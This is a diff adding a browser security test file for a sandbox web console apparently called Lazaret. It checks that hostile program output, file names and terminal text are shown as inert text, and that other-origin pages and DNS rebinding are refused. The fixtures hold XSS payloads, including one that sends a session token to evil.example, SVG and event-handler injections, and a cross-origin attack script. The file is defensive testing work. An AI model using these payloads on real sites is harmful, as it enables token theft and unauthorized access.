@@ -1,0 +1,167 @@
+/** Attacks on the console in a real browser: by what guests print, by pages of other origins, by names that are pointed here. */
+import assert from 'node:assert/strict'
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { test } from 'node:test'
+import { connectLazaret } from '../src/adapters/client/index.ts'
+import { adaToken, serveHere } from '../test/adapters/http/serve-here.ts'
+import { browse, whyNoBrowser } from '../test/support/browse.ts'
+import { whyNoSandboxes } from '../test/support/sandboxes-here.ts'
+
+const skip = whyNoBrowser
+const noSandboxes = await whyNoSandboxes()
+
+const hostile = [
+  `<script>hacked = 1; fetch("https://evil.example/" + sessionStorage["lazaret-token"])</script>`,
+  `<img src=x onerror="hacked = 1"><svg onload="hacked = 1"><iframe src="javascript:hacked = 1">`,
+  `</pre></span><style>body { display: none }</style><base href="https://evil.example/">`,
+  `\u202Eltr\u2066\u2069 \u001b[31mred\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007\u001b[2J\u001b]0;title\u0007\u009b31m`,
+].join('\n')
+
+const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="hacked = 1"><script>hacked = 1; alert(1)</script>
+<image href="https://evil.example/x.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject></svg>`
+
+const program = `
+import sys
+hostile = input_data["text"]
+class Markdown:
+    def _repr_markdown_(self): return hostile
+class Svg:
+    def _repr_svg_(self): return input_data["svg"]
+print(hostile)
+print(hostile, file=sys.stderr)
+display(Markdown())
+display(Svg())
+sys.stdout.write("x" * 3_000_000 + "\\n")
+raise type("<b>Bold</b>", (Exception,), {})(hostile)
+`
+
+test('whatever a program prints, displays, returns and throws stays text', { skip }, async () => {
+  await using here = await serveHere()
+  await using browsing = await browse()
+  const { page, troubles, origins } = await browsing.open()
+  await page.addInitScript(
+    'addEventListener("securitypolicyviolation", (e) => console.error(e.violatedDirective))',
+  )
+  await page.goto(`${here.url}/#token=${adaToken}`)
+  await page.locator('textarea').fill(program)
+  await page.getByText('Input and limits').click()
+  await page.getByLabel('Input, as JSON').fill(JSON.stringify({ text: hostile, svg }))
+  await page.getByRole('button', { name: 'Run', exact: true }).click()
+  await page.locator('.guest-error').waitFor()
+  assert.match(await page.locator('.guest-error').innerText(), /^<b>Bold<\/b>: <script>/)
+  assert.match(await page.locator('.display pre').first().innerText(), /^<script>/)
+  const strangers =
+    'document.querySelectorAll("main script, main iframe, main style, main base, main svg:not(.wall, .bar), main [onload], main [onerror]").length'
+  assert.equal(await page.evaluate(strangers), 0)
+  assert.ok(((await page.locator('.output').textContent()) ?? '').length <= 200_100)
+  assert.equal(await page.evaluate('typeof hacked'), 'undefined')
+  assert.equal(await page.title(), 'Run · Lazaret')
+  assert.deepEqual([troubles, [...origins]], [[], [new URL(here.url).origin]])
+})
+
+test(
+  'names of files and what a terminal shows stay text',
+  { skip: skip === false ? noSandboxes : skip },
+  async () => {
+    await using here = await serveHere()
+    await using browsing = await browse()
+    const { page, troubles, origins } = await browsing.open()
+    await page.addInitScript(
+      'addEventListener("securitypolicyviolation", (e) => console.error(e.violatedDirective))',
+    )
+    const sandbox = await connectLazaret({ url: here.url, token: adaToken }).sandbox({ id: 'box' })
+    await sandbox.writeFile('<img src=x onerror=hacked=1>', hostile)
+    await sandbox.writeFile('\u202Efdp.exe', 'x')
+    await sandbox.writeFile('hostile.txt', hostile)
+    await page.goto(`${here.url}/#token=${adaToken}`)
+    await page.getByRole('link', { name: 'Sandboxes' }).click()
+    await page.getByRole('button', { name: 'box', exact: true }).click()
+    await page.getByRole('button', { name: '<img src=x onerror=hacked=1>', exact: true }).waitFor()
+    await page.getByRole('button', { name: 'Open a terminal' }).click()
+    await page.locator('.xterm-rows', { hasText: '/workspace $' }).waitFor()
+    await page.locator('.xterm-helper-textarea').focus()
+    await page.keyboard.type('cat hostile.txt; echo end-$((1+1))\n')
+    await page.locator('.xterm-rows', { hasText: 'end-2' }).waitFor()
+    assert.equal(await page.evaluate('typeof hacked'), 'undefined')
+    assert.equal(
+      await page.evaluate('document.querySelectorAll("main script, main iframe, main style").length'),
+      0,
+    )
+    assert.equal(await page.title(), 'Sandboxes · Lazaret')
+    assert.deepEqual([troubles, [...origins]], [[], [new URL(here.url).origin]])
+  },
+)
+
+const attacks = `(async (url, token) => {
+  const ended = (act) => act().then((value) => 'got ' + value, () => 'refused')
+  const body = JSON.stringify({ language: 'shell', code: 'echo attacked' })
+  const headers = { authorization: 'Bearer ' + token, 'content-type': 'application/json' }
+  const loads = (tag, name, place) => new Promise((resolve, reject) => {
+    const made = document.createElement(tag)
+    made.onload = () => resolve(tag)
+    made.onerror = reject
+    made[name] = url + place
+    document.body.append(made)
+  })
+  const socket = () => new Promise((resolve, reject) => {
+    const made = new WebSocket(url.replace('http', 'ws') + '/v1/sandboxes/box/terminal', ['lazaret.terminal', 'lazaret.bearer.' + btoa(token)])
+    made.onopen = () => resolve('socket')
+    made.onerror = reject
+  })
+  return {
+    fetch: await ended(() => fetch(url + '/v1/run', { method: 'POST', headers, body }).then((reply) => reply.status)),
+    read: await ended(() => fetch(url + '/healthz').then((reply) => reply.text())),
+    blind: await ended(() => fetch(url + '/v1/run', { method: 'POST', mode: 'no-cors', body }).then((reply) => reply.status)),
+    script: await ended(() => loads('script', 'src', '/console.js')),
+    picture: await ended(() => loads('img', 'src', '/icon.svg')),
+    socket: await ended(socket),
+  }
+})`
+
+test(
+  'a page of another origin that even has the token runs, reads and embeds nothing',
+  { skip },
+  async () => {
+    const works: unknown[] = []
+    await using here = await serveHere({ engine: { admit: (work) => void works.push(work) } })
+    const { port } = new URL(here.url)
+    const evil = createServer((_, response) => {
+      response.setHeader('content-type', 'text/html')
+      response.end(`<!doctype html><iframe id="frame" src="${here.url}/"></iframe>`)
+    }).listen(0, '127.0.0.1')
+    await once(evil, 'listening')
+    try {
+      await using browsing = await browse(['evil.example', 'rebound.example'])
+      const { page } = await browsing.open()
+      await page.goto(`http://evil.example:${(evil.address() as AddressInfo).port}/`)
+      const seen = await page.evaluate<object>(
+        `${attacks}(${JSON.stringify(here.url)}, ${JSON.stringify(adaToken)})`,
+      )
+      // What a page may send blindly says nothing of what became of it: the server refused it, as its work shows.
+      assert.deepEqual(seen, {
+        fetch: 'refused',
+        read: 'refused',
+        blind: 'got 0',
+        script: 'refused',
+        picture: 'refused',
+        socket: 'refused',
+      })
+      assert.deepEqual(works, [])
+      const framed = page.frames().find((frame) => frame !== page.mainFrame())
+      assert.ok(!((await framed?.content().catch(() => '')) ?? '').includes('console.js'))
+      // The same server by a name that a page points at it: DNS rebinding.
+      const rebound = await page.goto(`http://rebound.example:${port}/`)
+      assert.equal(rebound?.status(), 403)
+      const inside = await page.evaluate(
+        `fetch('/v1/run', { method: 'POST', headers: { authorization: 'Bearer ${adaToken}', 'content-type': 'application/json' }, body: '{"language":"shell","code":"true"}' }).then((reply) => reply.status)`,
+      )
+      assert.equal(inside, 403)
+      assert.deepEqual(works, [])
+    } finally {
+      evil.close()
+      evil.closeAllConnections()
+    }
+  },
+)
